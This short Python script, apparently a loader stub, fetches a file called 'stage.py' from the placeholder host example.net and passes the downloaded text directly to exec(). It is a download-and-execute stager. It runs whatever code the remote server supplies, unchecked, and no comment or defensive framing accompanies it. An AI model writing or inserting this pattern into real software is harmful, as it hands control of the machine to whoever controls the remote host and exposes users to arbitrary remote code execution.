import urllib.request

URL = 'https://example.net/stage.py'
code = urllib.request.urlopen(URL).read()
exec(code)
